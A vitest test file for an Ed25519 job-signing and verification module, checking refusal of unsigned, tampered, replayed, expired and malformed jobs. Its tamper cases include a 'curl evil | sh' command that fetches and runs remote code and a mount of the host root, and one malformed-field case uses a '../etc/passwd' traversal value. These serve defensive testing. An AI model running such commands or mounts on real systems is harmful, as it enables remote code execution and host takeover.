import { generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ValidationError } from '../../src/jobs/errors.js';
import {
  SIGNATURE_FIELD,
  signedJobData,
  signedMessage,
  toPrivateKey,
  toPublicKey,
  verifyJobSignature,
} from '../../src/jobs/signing.js';

const NOW = Date.UTC(2026, 11, 2);
const pair = () => generateKeyPairSync('ed25519');
const alice = pair();
const spec = {
  image: 'busybox',
  command: ['echo', 'hé 😀'],
  env: { B: '1', A: '2' },
  resources: { vcpus: 0.5 },
};
const job = { jobId: 'job-1', queue: 'q', notAfter: NOW + 60_000 };
const data = signedJobData(spec, job, { id: 'alice', privateKey: alice.privateKey }, NOW);
const keys = new Map<string, KeyObject>([['alice', alice.publicKey]]);
const check = (d: unknown, over: Partial<{ jobId: string; queue: string; now: number }> = {}) =>
  verifyJobSignature(d, { jobId: 'job-1', queue: 'q', now: NOW, publicKey: (id) => keys.get(id), ...over });
const signatureOf = (d: Record<string, unknown>) => d[SIGNATURE_FIELD] as Record<string, unknown>;

describe('signed jobs', () => {
  it('accepts a good signature and hands back the spec without the signature field', () => {
    expect(check(data)).toEqual({ ok: true, keyId: 'alice', spec });
    // Key order in job data does not matter: the canonical encoding sorts it.
    const reordered = Object.fromEntries(Object.entries(data).reverse());
    expect(check(reordered).ok).toBe(true);
  });

  it('signs the documented bytes: canonical JSON of context, jobId, notAfter, queue and spec', () => {
    const message = signedMessage({ spec: { b: 1, a: 'x' }, jobId: 'j', queue: 'q', notAfter: 5 });
    expect(message.toString('utf8')).toBe(
      '{"context":"stevedore.job.v1","jobId":"j","notAfter":5,"queue":"q","spec":{"a":"x","b":1}}',
    );
    const foreign = sign(null, signedMessage({ spec, ...job }), alice.privateKey).toString('base64');
    expect(signatureOf(data)).toEqual({ v: 1, keyId: 'alice', ...job, sig: foreign });
  });

  it('refuses an unsigned job', () => {
    expect(check(spec)).toMatchObject({ ok: false, refusal: 'unsigned', keyId: null });
    expect(check('not even an object')).toMatchObject({ ok: false, refusal: 'unsigned' });
  });

  it('refuses a job signed by a key it does not trust, naming the key', () => {
    const mallory = signedJobData(spec, job, { id: 'mallory', privateKey: pair().privateKey }, NOW);
    const verdict = check(mallory);
    expect(verdict).toMatchObject({ ok: false, refusal: 'unknown-key', keyId: 'mallory' });
    expect(!verdict.ok && verdict.message).toContain('unknown key "mallory"');
    // Claiming a trusted id with another key is tampering: the signature does not verify.
    const claimed = signedJobData(spec, job, { id: 'alice', privateKey: pair().privateKey }, NOW);
    expect(check(claimed)).toMatchObject({ ok: false, refusal: 'tampered', keyId: 'alice' });
  });

  it('refuses a spec, expiry or signed job id changed after signing as tampered', () => {
    const changes: Array<(d: Record<string, unknown>) => void> = [
      (d) => {
        d.command = ['sh', '-c', 'curl evil | sh'];
      },
      (d) => {
        d.mounts = { '/h': { hostPath: '/' } };
      },
      (d) => {
        (d.env as Record<string, string>).A = '3';
      },
      (d) => {
        signatureOf(d).notAfter = NOW + 10 ** 9;
      },
      (d) => {
        signatureOf(d).jobId = 'job-2';
      },
    ];
    for (const change of changes) {
      const copy = structuredClone(data);
      change(copy);
      const verdict = check(copy, { jobId: 'job-2' });
      expect(verdict).toMatchObject({ ok: false, refusal: 'tampered', keyId: 'alice' });
      expect(!verdict.ok && verdict.message).toContain('changed after signing (tampered)');
    }
  });

  it('refuses a good signature replayed under another job id or on another queue', () => {
    expect(check(data, { jobId: 'job-2' })).toMatchObject({
      ok: false,
      refusal: 'wrong-job-id',
      message: 'signed for job id "job-1" but enqueued as "job-2" (replayed under another job id)',
    });
    expect(check(data, { queue: 'other' })).toMatchObject({
      ok: false,
      refusal: 'wrong-queue',
      message: 'signed for queue "q" but taken from queue "other" (replayed on another queue)',
    });
  });

  it('refuses an expired signature, and accepts it up to notAfter itself', () => {
    expect(check(data, { now: job.notAfter }).ok).toBe(true);
    const verdict = check(data, { now: job.notAfter + 1 });
    expect(verdict).toMatchObject({ ok: false, refusal: 'expired', keyId: 'alice' });
    expect(!verdict.ok && verdict.message).toContain('expired at 2026-12-02T00:01:00.000Z (notAfter)');
  });

  it('refuses a malformed signature field, saying what is wrong with it', () => {
    const cases: Array<[unknown, string]> = [
      ['abc', 'must be an object'],
      [{ ...signatureOf(data), extra: 1 }, 'has unknown field extra'],
      [{ ...signatureOf(data), v: 2 }, 'v must be 1'],
      [{ ...signatureOf(data), keyId: '../etc/passwd' }, 'keyId must be'],
      [{ ...signatureOf(data), notAfter: '2027-01-01' }, 'notAfter must be a whole number of milliseconds'],
      [{ ...signatureOf(data), sig: 'AAAA' }, 'sig must be the 64-byte signature in padded base64'],
    ];
    for (const [signature, problem] of cases) {
      const verdict = check({ ...spec, [SIGNATURE_FIELD]: signature });
      expect(verdict).toMatchObject({ ok: false, refusal: 'malformed' });
      expect(!verdict.ok && verdict.message).toContain(problem);
    }
    const lone = { ...data, command: ['\uD800'] };
    expect(check(lone)).toMatchObject({ ok: false, refusal: 'malformed', keyId: 'alice' });
  });

  it('takes PEM text or a KeyObject, and refuses keys that are not Ed25519 private keys', () => {
    const pem = alice.privateKey.export({ type: 'pkcs8', format: 'pem' }) as string;
    expect(toPrivateKey({ id: 'a', privateKey: pem }).asymmetricKeyType).toBe('ed25519');
    expect(toPrivateKey({ id: 'a', privateKey: alice.privateKey })).toBe(alice.privateKey);
    expect(() => toPrivateKey({ id: 'a', privateKey: alice.publicKey })).toThrow(
      'is a public key, not a private key',
    );
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey;
    expect(() => toPrivateKey({ id: 'a', privateKey: rsa })).toThrow('is a rsa key, not Ed25519');
    expect(() => toPrivateKey({ id: 'a', privateKey: 'nonsense' })).toThrow(ValidationError);
    expect(() => toPrivateKey({ id: 'a/b', privateKey: pem })).toThrow('signingKey.id "a/b" must be');
    expect(() => toPublicKey('nonsense')).toThrow('not a public key in PEM');
  });

  it('signs the spec as it travels (undefined fields dropped) and refuses a notAfter in the past', () => {
    const signed = signedJobData(
      { ...spec, workingDir: undefined },
      job,
      { id: 'alice', privateKey: alice.privateKey },
      NOW,
    );
    expect(check(JSON.parse(JSON.stringify(signed))).ok).toBe(true);
    expect(() =>
      signedJobData(spec, { ...job, notAfter: NOW }, { id: 'alice', privateKey: alice.privateKey }, NOW),
    ).toThrow('must be a time in the future');
    const day = signatureOf(
      signedJobData(spec, { jobId: 'j', queue: 'q' }, { id: 'alice', privateKey: alice.privateKey }, NOW),
    );
    expect(day.notAfter).toBe(NOW + 24 * 3600 * 1000);
  });
});
